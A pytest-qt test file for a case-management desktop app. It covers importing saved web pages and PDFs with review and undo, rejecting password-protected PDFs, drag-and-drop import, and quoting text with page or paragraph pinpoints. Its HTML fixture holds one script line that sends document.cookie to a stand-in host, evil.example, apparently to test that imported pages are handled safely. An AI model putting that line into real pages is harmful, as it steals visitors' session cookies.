"""Import ▸ Web Page or PDF… (review, then source + attachment as one step) and the reader's quotes."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from PySide6.QtCore import QMimeData, QPointF, Qt, QUrl
from PySide6.QtGui import QDropEvent, QTextCursor
from pytestqt.qtbot import QtBot

from casefile.domain.errors import CasefileError
from casefile.domain.kinds import Kind
from casefile.jobs.source_files import add_source_file
from casefile.services import attachments, case, records
from casefile.storage.casefile import CaseFile
from casefile.ui.dialogs.data_files import DataFileDialogs
from casefile.ui.dialogs.errors import ErrorDialog
from casefile.ui.dialogs.source_file import SourceReviewDialog
from casefile.ui.main_window import MainWindow
from casefile.ui.reader import ReaderDialog
from tests.jobs.test_source_files import _pdf
from tests.ui.conftest import open_case, type_text

PAGE = """<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8">
<meta property="og:title" content="Путин прибыл в Улан-Батор &amp; &lt;b&gt;">
<meta property="og:site_name" content="Медуза"><meta property="og:type" content="article">
<meta property="article:published_time" content="2024-09-02T21:15:00+08:00">
<link rel="canonical" href="https://meduza.example/news/2024/09/02/putin">
<script>fetch('https://evil.example/?' + document.cookie)</script></head><body>
<p>Президент России <b>прибыл</b> в Монголию.</p>
<p>Монголия — участник Римского статута с 2002 года; בית הדין 国际刑事法院 المحكمة.</p></body></html>"""


def _counts(path: Path) -> dict[Kind, int]:
    with CaseFile.open(path, read_only=True) as case_file, case_file.reading() as session:
        return case.counts(session)


def _source(path: Path, source_id: str) -> tuple[dict[str, object], str, list[bytes]]:
    with CaseFile.open(path, read_only=True) as case_file, case_file.reading() as session:
        source = records.get(session, source_id).values
        outlet = records.get(session, str(source["outlet"])).values["name"]
        files = [attachments.read_verified(session, a.id)[1] for a in attachments.list_for(session, source_id)]
    return source, outlet, files


def test_a_saved_page_is_reviewed_then_stored_with_its_file_as_one_undoable_step(
    qtbot: QtBot, window: MainWindow, empty_case_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = tmp_path / "путин.html"
    page.write_bytes(PAGE.encode("utf-8"))
    open_case(qtbot, window, empty_case_path)
    monkeypatch.setattr(DataFileDialogs, "open_evidence", classmethod(lambda cls, *a: page))
    proposed: dict[str, object] = {}

    def exec_(dialog: SourceReviewDialog) -> int:
        proposed.update(dialog.form.values())
        proposed["new outlet"] = dialog.new_outlet.text()
        title = dialog.form.editors["title"].widget
        title.clear()
        type_text(title, "Путин в Улан-Баторе <b>&</b>")  # the analyst corrects the title before saving
        dialog.accept()
        return int(dialog.result())

    monkeypatch.setattr(SourceReviewDialog, "exec", exec_)
    with qtbot.waitSignal(window.job_finished, timeout=20_000) as done:
        window.import_export.import_source_file.trigger()
    assert proposed["title"] == "Путин прибыл в Улан-Батор & <b>" and proposed["new outlet"] == "Медуза"
    assert proposed["url"] == "https://meduza.example/news/2024/09/02/putin"
    assert proposed["published"] == "2024-09-02" and proposed["kind"] == "news_article"
    source, outlet, files = _source(empty_case_path, done.args[0])
    assert source["title"] == "Путин в Улан-Баторе <b>&</b>" and outlet == "Медуза"
    assert [hashlib.sha256(f).hexdigest() for f in files] == [hashlib.sha256(page.read_bytes()).hexdigest()]
    assert window.ui.details.record is not None and window.ui.details.record.id == done.args[0]
    assert window.undo_stack.count() == 1
    window.undo_stack.undo()
    counts = _counts(empty_case_path)
    assert counts[Kind.SOURCE] == 0 and counts[Kind.ORGANISATION] == 0
    window.undo_stack.redo()
    assert _source(empty_case_path, done.args[0])[1:] == (outlet, files)


def test_a_password_protected_pdf_is_explained_and_nothing_is_stored(
    qtbot: QtBot, window: MainWindow, empty_case_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf(["Secret"]))))
    writer.encrypt("open sesame")
    locked = tmp_path / "locked.pdf"
    with locked.open("wb") as handle:
        writer.write(handle)
    open_case(qtbot, window, empty_case_path)
    shown: list[BaseException] = []
    monkeypatch.setattr(ErrorDialog, "show_error", classmethod(lambda cls, _p, e: shown.append(e)))
    monkeypatch.setattr(DataFileDialogs, "open_evidence", classmethod(lambda cls, *a: locked))
    reviewed: list[object] = []
    monkeypatch.setattr(SourceReviewDialog, "exec", lambda d: reviewed.append(d) or 0)
    with qtbot.waitSignal(window.job_failed, timeout=20_000):
        window.import_export.import_source_file.trigger()
    assert len(shown) == 1 and isinstance(shown[0], CasefileError)
    assert "protected by a password" in shown[0].message and "unprotected copy" in shown[0].hint
    assert reviewed == [] and _counts(empty_case_path)[Kind.SOURCE] == 0 and window.undo_stack.count() == 0


def test_a_page_dropped_on_the_sources_table_opens_the_review(
    qtbot: QtBot, window: MainWindow, empty_case_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(PAGE.encode("utf-8"))
    open_case(qtbot, window, empty_case_path)
    window.ui.kinds_view.setCurrentIndex(window.ui.kinds_model.index(window.ui.kinds_model.row_of(Kind.SOURCE)))
    reviewed: list[str] = []
    monkeypatch.setattr(SourceReviewDialog, "exec", lambda d: reviewed.append(d.form.values()["title"]) or 0)
    data = QMimeData()
    data.setUrls([QUrl.fromLocalFile(str(page))])
    drop = QDropEvent(QPointF(10, 10), Qt.DropAction.CopyAction, data, Qt.MouseButton.NoButton,
                      Qt.KeyboardModifier.NoModifier)  # fmt: skip
    # Qt delivers a drop only during a real drag, which a test cannot start: hand the event to the table's filter.
    assert window.import_export.eventFilter(window.ui.table.viewport(), drop) and drop.isAccepted()
    qtbot.waitUntil(lambda: bool(reviewed), timeout=20_000)
    assert reviewed == ["Путин прибыл в Улан-Батор & <b>"] and _counts(empty_case_path)[Kind.SOURCE] == 0


def _open_reader(qtbot: QtBot, window: MainWindow, source_id: str) -> ReaderDialog:
    window.select_record(source_id)
    panel = window.ui.details.attachments
    qtbot.waitUntil(lambda: panel.model.rowCount() == 1)
    panel.table.selectRow(0)
    assert panel.read_button.isEnabled()
    with qtbot.waitSignal(window.import_export.reader.opened, timeout=20_000) as opened:
        qtbot.mouseClick(panel.read_button, Qt.MouseButton.LeftButton)
    dialog = opened.args[0]
    assert isinstance(dialog, ReaderDialog)
    return dialog


def _quote(path: Path, quote_id: str) -> dict[str, object]:
    with CaseFile.open(path, read_only=True) as case_file, case_file.reading() as session:
        return records.get(session, quote_id).values


def test_reading_a_pdf_and_quoting_a_selection_gives_its_page(
    qtbot: QtBot, window: MainWindow, empty_case_path: Path, tmp_path: Path
) -> None:
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(_pdf(["First page words.", "Mongolia did not arrest the suspect <b>&</b>."]))
    added = add_source_file(empty_case_path, pdf).added
    assert added is not None
    open_case(qtbot, window, empty_case_path)
    reader = _open_reader(qtbot, window, added.source_id)
    assert "p. 2" in reader.text.toPlainText()
    assert not reader.quote_button.isEnabled()
    reader.select("p. 2", "did not arrest the suspect <b>&</b>")
    assert reader.quote_button.isEnabled()
    with qtbot.waitSignal(reader.quote_created) as created:
        qtbot.mouseClick(reader.quote_button, Qt.MouseButton.LeftButton)
    quote = _quote(empty_case_path, created.args[0])
    assert quote["text"] == "did not arrest the suspect <b>&</b>"
    assert quote["pinpoint"] == "p. 2" and quote["source"] == added.source_id
    assert window.current_kind() == Kind.QUOTE
    with CaseFile.open(empty_case_path, read_only=True) as case_file, case_file.reading() as session:
        _, stored = attachments.read_verified(session, added.attachment_id)
    assert stored == pdf.read_bytes()  # the stored file is never changed
    window.undo_stack.undo()
    assert _counts(empty_case_path)[Kind.QUOTE] == 0
    reader.close()


def test_quoting_a_saved_page_gives_the_paragraph_in_any_script(
    qtbot: QtBot, window: MainWindow, empty_case_path: Path, tmp_path: Path
) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(PAGE.encode("utf-8"))
    added = add_source_file(empty_case_path, page).added
    assert added is not None
    open_case(qtbot, window, empty_case_path)
    reader = _open_reader(qtbot, window, added.source_id)
    words = "2002 года; בית הדין 国际刑事法院 المحكمة"
    reader.select("para. 2", words)
    with qtbot.waitSignal(reader.quote_created) as created:
        reader.quote_button.click()
    quote = _quote(empty_case_path, created.args[0])
    assert quote["text"] == words and quote["pinpoint"] == "para. 2"
    # A selection from the end of one paragraph into the next: its words without the heading between,
    # and the pinpoint of the paragraph it starts in.
    (_s1, end1, _p1), (start2, _e2, _p2) = reader._spans[:2]
    cursor = reader.text.textCursor()
    cursor.setPosition(end1 - len("Монголию."))
    cursor.setPosition(start2 + len("Монголия"), QTextCursor.MoveMode.KeepAnchor)
    reader.text.setTextCursor(cursor)
    assert reader.selection() == ("Монголию.\n\nМонголия", "para. 1")
    reader.close()
